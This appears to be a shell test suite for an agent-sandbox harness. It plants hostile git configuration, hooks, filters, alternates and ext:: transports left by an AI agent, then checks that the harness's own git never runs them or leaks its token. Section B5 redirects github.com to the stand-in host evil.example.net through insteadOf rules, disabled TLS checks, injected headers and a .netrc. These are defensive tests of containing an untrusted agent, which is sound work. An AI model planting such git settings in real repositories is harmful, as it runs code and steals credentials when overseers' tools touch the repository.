#!/bin/sh
# The hostile suite: git settings, hooks and attributes of the agent's that would have its code run, or
# its servers asked, when the token is there. Many in one run: each has a canary of its own name, and
# plain git in the agent's time is the control that runs it.
# rows: B1 B2 B3 B4 B5
. "$(dirname "$0")/lib.sh"
in_ns "$@"
. "$ROOT/t/entry/lib.sh"

internet_start
loot_start

# git that does not care for a verdict, and a bare copy beside it to talk to.
begin='cd /work/repo; g() { timeout 20 git "$@" </dev/null >/dev/null 2>&1; }
	c=/loot/c; git clone -q --bare . /tmp/far.git; url=$(git config remote.origin.url)
'

runs_first='core.fsmonitor core.sshCommand core.editor core.pager core.askPass core.gitProxy
	core.alternateRefsCommand credential.helper gpg.program diff.external uploadpack.packObjectsHook
	remote.origin.uploadpack remote.origin.receivepack git-remote-canary sequence.editor include.path
	includeIf ext pre-commit'
# shellcheck disable=SC2086
canaries $runs_first
mkdir loot/trace loot/hooks
mv loot/c/pre-commit loot/hooks/
hostile 'B1: every setting that names a program, all at once' 0 "$begin"'
	for s in core.fsmonitor core.sshCommand core.editor core.pager core.askPass core.gitProxy \
		core.alternateRefsCommand gpg.program diff.external remote.origin.uploadpack \
		remote.origin.receivepack sequence.editor; do git config $s $c/$s; done
	git config core.hooksPath /loot/hooks
	git config credential.helper "!$c/credential.helper"
	git config --global uploadpack.packObjectsHook $c/uploadpack.packObjectsHook
	git config protocol.ext.allow always
	g commit --allow-empty -m one; g commit --allow-empty -m two
	g status; echo 1 >>README.md; g diff; g checkout README.md
	g ls-remote ssh://far.example.org/x; g ls-remote git://far.example.org/x
	g commit --amend --allow-empty; GIT_EDITOR= g rebase -i HEAD~
	python3 -c "import pty; pty.spawn([\"git\", \"log\", \"-1\"])" >/dev/null 2>&1
	printf "protocol=https\nhost=far.example.org\n\n" | timeout 20 git credential fill >/dev/null 2>&1
	git clone -q --bare . /tmp/alt.git; mkdir -p .git/objects/info
	new=$(git -C /tmp/far.git -c user.name=x -c user.email=x@x commit-tree -m far HEAD^{tree})
	git -C /tmp/far.git update-ref refs/heads/far $new
	echo /tmp/alt.git/objects >.git/objects/info/alternates; g fetch /tmp/far.git far
	git config remote.origin.url /tmp/far.git; g push origin HEAD:refs/heads/x; g fetch origin
	git config remote.origin.vcs canary; PATH=$c:$PATH g fetch origin
	git config --unset remote.origin.vcs; git config remote.origin.url "ext::$c/ext"; g fetch origin
	git config --unset core.fsmonitor
	for i in include.path includeIf; do printf "[core]\n\tfsmonitor = $c/$i\n" >/loot/$i.cfg; done
	git config include.path /loot/include.path.cfg; g status; git config --unset include.path
	git config "includeIf.onbranch:**.path" /loot/includeIf.cfg; g status
	git config include.path /loot/include.path.cfg; git config core.fsmonitor $c/core.fsmonitor
	git config remote.origin.vcs canary; git config remote.origin.pushurl https://evil.example.net/
	git config remote.origin.proxy http://127.0.0.1:9; git config push.recurseSubmodules on-demand
	git config commit.gpgSign true; g commit --allow-empty -m signed
	git config --global trace2.eventTarget /loot/trace; g status; ls /loot/trace >/loot/traced; rm /loot/trace/*
	cp ~/.gitconfig ~/.config 2>/dev/null; echo x >x'
# shellcheck disable=SC2086
saw $runs_first
ok 'B1: control: git wrote its trace where it was told' test -s loot/traced
is "$(ls loot/trace)" '' 'B1: no git of ours did'

hooks='pre-commit prepare-commit-msg commit-msg post-commit pre-push reference-transaction'
hooks="$hooks post-index-change post-checkout pre-auto-gc"
filters='filter.clean filter.smudge filter.process diff.textconv merge.driver'
users='home xdg worktree'
rm -rf loot/hooks loot/untrusted.*
# shellcheck disable=SC2086
canaries $hooks $filters $users
hostile 'B2, B3, B4: every hook; filters and drivers; the same from the home and beside the repository' 0 "$begin"'
	mkdir -p .git/hooks .git/info; for h in '"$hooks"'; do cp $c/$h .git/hooks/$h; done
	printf "*.f filter=f diff=f merge=f\n*.p filter=p\n" >.git/info/attributes
	printf "* filter=f diff=f merge=f\n" >.gitattributes
	git config filter.f.clean "$c/filter.clean cat"; git config filter.f.smudge "$c/filter.smudge cat"
	git config filter.p.process $c/filter.process; git config diff.f.textconv $c/diff.textconv
	git config merge.f.driver $c/merge.driver
	git config extensions.worktreeConfig true; git config --worktree core.fsmonitor $c/worktree
	git config --global core.sshCommand $c/home; mkdir -p ~/.config/git
	printf "[credential]\n\thelper = \"!$c/xdg\"\n" >~/.config/git/config
	echo a >a.p; g add a.p; rm a.p; echo a >a.f; g add .; g commit -m a; g checkout -b side; echo b >a.f; g commit -am b; g checkout -
	echo c >a.f; g diff; g commit -am c; g merge side; g merge --abort; rm a.f; g checkout a.f
	g push /tmp/far.git HEAD:refs/heads/x; git config gc.auto 1; for i in 1 2 3; do
		for j in 1 2 3 4 5 6 7 8 9; do echo $i$j$$ | git hash-object -w --stdin; done; done >/dev/null
	for d in 0 1 2 3 4 5 6 7 8 9 a b c d e f; do mkdir -p .git/objects/17; echo x >.git/objects/17/$(printf %038x 0x$d); done
	g gc --auto; rm -rf .git/objects/17/0000*
	g ls-remote ssh://far.example.org/x; g status
	printf "protocol=https\nhost=far.example.org\n\n" | GIT_TERMINAL_PROMPT=0 timeout 20 git credential fill >/dev/null 2>&1
	echo x >x; echo y >y.f; echo z >z.p'
# shellcheck disable=SC2086
saw $hooks $filters $users

# Everything that sends a request elsewhere. The control is the agent's own request, which its policy
# lets through; what counts is what comes after.
cp "$CA" loot/ca.pem
hostile 'B5: URLs, proxies, certificates and headers that lead elsewhere' 0 "$begin"'
	for f in "" --global; do git config $f "url.https://evil.example.net/.insteadOf" https://github.com/
	git config $f "url.https://evil.example.net/.pushInsteadOf" https://github.com/
	git config $f http.sslVerify false; git config $f http.sslCAInfo /loot/ca.pem
	git config $f http.extraHeader "X-Evil: yes"; git config $f http.followRedirects true; done
	printf "machine github.com login x password netrc\nmachine evil.example.net login x password netrc\n" >~/.netrc
	git config remote.origin.url https://evil.example.net/first; g ls-remote origin
	g ls-remote https://github.com/demo/private
	for f in "" --global; do git config $f http.proxy http://127.0.0.1:9
	git config $f http.https://github.com/.proxy http://127.0.0.1:9; done
	curl -sS https://github.com/ 2>/loot/b5; echo x >x' \
	--allow evil.example.net@setup,agent,ship \
	--run-on "scan:touch $TMP/loot/trusted; cp $NET/requests.jsonl $TMP/before.jsonl"
like before.jsonl 'evil.example.net.*"path": "/demo/private/info/refs' "B5: control: the agent's own git was led astray"
like before.jsonl 'evil.example.net.*X-Evil' 'B5: control: with its header'
is "$(recorded requests 'r["host"] == "evil.example.net"' | wc -l)" "$(grep -c '"evil.example.net"' before.jsonl)" \
	'B5: ours asked nobody but GitHub'
is "$(recorded requests 'r["host"] != "evil.example.net" and "X-Evil" in r["headers"]' | wc -l)" 0 'B5: and with no header of theirs'
is "$(recorded requests 'r["host"] == "github.com" and "bmV0cmM" in (r["authorization"] or "")' | wc -l)" 0 'B5: nor from a .netrc'
is "$(recorded requests 'r["host"] == "github.com" and "receive-pack" in r["path"] and r["status"] == 200' | wc -l)" 6 \
	'B5: control: each of the three runs pushed'
done_testing
